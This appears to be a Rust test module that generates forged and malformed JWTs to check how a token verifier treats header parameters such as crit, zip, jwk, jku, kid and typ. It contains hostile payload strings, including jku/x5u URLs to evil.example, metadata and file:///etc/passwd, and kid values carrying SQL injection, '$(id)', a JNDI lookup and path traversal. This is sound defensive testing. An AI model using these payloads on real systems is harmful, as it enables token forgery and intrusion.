//! Header parameters (RFC 7515 section 4.1, RFC 8725 section 3).

use super::{Row, texts};
use crate::support::{Honest, foreign_key, sign};

pub(super) const ATTACKS: &[Row] = &[
    ("`crit`", crit),
    ("compression", compression),
    ("a key that the token brings", embedded_key),
    ("a key that the token points to", remote_key),
    ("a `kid` that is a path, a query or a command", hostile_kid),
    ("a `kid` that nearly names the key", near_kid),
    ("a `kid` that is no string", kid_kind),
    ("another kind of token", other_typ),
    ("a `typ` or `cty` that is no string", typ_kind),
    ("a header over its limit", too_long),
];

fn with(honest: &Honest, name: &str, value: &str) -> String {
    honest.with_header(honest.header.with(name, value).to_json())
}

/// RFC 7515 section 4.1.11: unknown, malformed, empty, doubled, absent and registered names.
fn crit(honest: &Honest) -> Vec<Vec<u8>> {
    let mut tokens = Vec::new();
    for value in [
        "[\"x\"]",
        "[\"exp\"]",
        "[\"b64\"]",
        "[\"x\",\"x\"]",
        "[\"alg\"]",
        "[\"kid\",\"x\"]",
        "[\"absent\"]",
        "[\"http://example.com/UNDEFINED\"]",
        "[]",
        "null",
        "\"x\"",
        "\"\"",
        "{}",
        "{\"x\":1}",
        "[1]",
        "[null]",
        "[[\"x\"]]",
        "1",
        "false",
        "true",
    ] {
        tokens.push(with(honest, "crit", value));
        let header = honest
            .header
            .with("crit", value)
            .with("x", "1")
            .with("exp", "1");
        tokens.push(honest.with_header(header.to_json()));
        tokens.push(honest.with_header(honest.header.plus("\"cr\\u0069t\"", value).to_json()));
    }
    texts(tokens)
}

fn compression(honest: &Honest) -> Vec<Vec<u8>> {
    let header = honest.header.with("zip", "\"DEF\"").to_json();
    // DEFLATE in one stored block (RFC 1951 section 3.2.4).
    let claims = honest.claims.to_json().into_bytes();
    let length = u16::try_from(claims.len()).unwrap();
    let deflated = [
        &[1],
        &length.to_le_bytes()[..],
        &(!length).to_le_bytes(),
        &claims,
    ]
    .concat();
    texts([
        honest.sign(&header, deflated),
        honest.with_header(&header),
        with(honest, "zip", "\"none\""),
        with(honest, "zip", "null"),
    ])
}

/// Signed by a stranger, who brings the key along.
fn embedded_key(honest: &Honest) -> Vec<Vec<u8>> {
    let stranger = foreign_key(honest.algorithm);
    let jwk = serde_json::to_string(stranger.public_jwk()).unwrap();
    let claims = honest.claims.to_json();
    let header = honest.header.with("jwk", &jwk);
    let chain = honest.header.with("x5c", "[\"MIIBszCCAVmgAwIBAgIU\"]");
    let set = honest.header.with("jwks", &format!("{{\"keys\":[{jwk}]}}"));
    let mut tokens = Vec::new();
    for header in [&header, &chain, &set] {
        tokens.push(sign(stranger, header.to_json(), &claims));
        tokens.push(sign(stranger, header.without("kid").to_json(), &claims));
        tokens.push(sign(
            stranger,
            header.with("kid", "\"mine\"").to_json(),
            &claims,
        ));
    }
    // Brought in the claims.
    let claims = honest
        .claims
        .with("jwk", &jwk)
        .with("cnf", &format!("{{\"jwk\":{jwk}}}"));
    tokens.push(sign(stranger, honest.header.to_json(), claims.to_json()));
    texts(tokens)
}

fn remote_key(honest: &Honest) -> Vec<Vec<u8>> {
    let stranger = foreign_key(honest.algorithm);
    let mut tokens = Vec::new();
    for name in ["jku", "x5u"] {
        for url in [
            "https://evil.example/jwks",
            "http://169.254.169.254/latest/meta-data",
            "file:///etc/passwd",
            "https://oidc.circleci.example@evil.example/jwks",
            "//evil.example",
        ] {
            let header = honest.header.with(name, &format!("\"{url}\""));
            tokens.push(sign(stranger, header.to_json(), honest.claims.to_json()));
            let header = header.with("kid", "\"mine\"");
            tokens.push(sign(stranger, header.to_json(), honest.claims.to_json()));
        }
    }
    texts(tokens)
}

/// Signed with the honest key: only the name is wrong.
fn hostile_kid(honest: &Honest) -> Vec<Vec<u8>> {
    texts(
        [
            "../../../../dev/null",
            "/dev/null",
            "file:///proc/self/environ",
            "' OR '1'='1",
            "x' UNION SELECT 'secret';--",
            "key|sleep 10",
            "$(id)",
            "%00",
            "\\u0000",
            "\\r\\nX-Header: 1",
            "https://evil.example/key",
            "{{7*7}}",
            "${jndi:ldap://evil.example}",
            "*",
            "",
            "\\u202e",
        ]
        .map(|kid| with(honest, "kid", &format!("\"{kid}\""))),
    )
}

fn near_kid(honest: &Honest) -> Vec<Vec<u8>> {
    let kid = honest
        .header
        .get("kid")
        .unwrap()
        .trim_matches('"')
        .to_owned();
    texts(
        [
            kid.to_uppercase(),
            format!("{kid} "),
            format!(" {kid}"),
            format!("{kid}\\u0000"),
            format!("{kid}\\n"),
            format!("{kid}\\u0301"),
            format!("{kid}*"),
            kid.replacen('a', "\\u0430", 1),
            format!("./{kid}"),
            kid[1..].to_owned(),
            kid[..kid.len() - 1].to_owned(),
            "k".repeat(256),
            "k".repeat(257),
        ]
        .map(|near| with(honest, "kid", &format!("\"{near}\""))),
    )
}

fn kid_kind(honest: &Honest) -> Vec<Vec<u8>> {
    let kid = honest.header.get("kid").unwrap().to_owned();
    let list = format!("[{kid}]");
    let mut tokens = Vec::new();
    for value in ["null", "1", "true", "{}", "[]", &list] {
        tokens.push(with(honest, "kid", value));
    }
    texts(tokens)
}

fn other_typ(honest: &Honest) -> Vec<Vec<u8>> {
    texts(
        [
            "logout+jwt",
            "secevent+jwt",
            "dpop+jwt",
            "wit+jwt",
            "at+jwt",
            "AT+JWT",
            "application/at+jwt",
            "entity-statement+jwt",
            "JWE",
            "JOSE",
            "JWT ",
            " JWT",
            "JWTx",
            "",
            "application/",
            "application/application/jwt",
            "text/jwt",
            "jwt;x=1",
        ]
        .map(|typ| with(honest, "typ", &format!("\"{typ}\""))),
    )
}

fn typ_kind(honest: &Honest) -> Vec<Vec<u8>> {
    let mut tokens = Vec::new();
    for value in ["null", "1", "true", "[\"JWT\"]", "{}"] {
        tokens.push(with(honest, "typ", value));
        tokens.push(with(honest, "cty", value));
    }
    texts(tokens)
}

fn too_long(honest: &Honest) -> Vec<Vec<u8>> {
    let header = |filler: usize| {
        let filler = format!("\"{}\"", "x".repeat(filler));
        honest.header.with("x", &filler).to_json()
    };
    let frame = header(0).len();
    texts([8_193, 8_194, 8_196, 10_000].map(|length| honest.with_header(header(length - frame))))
}
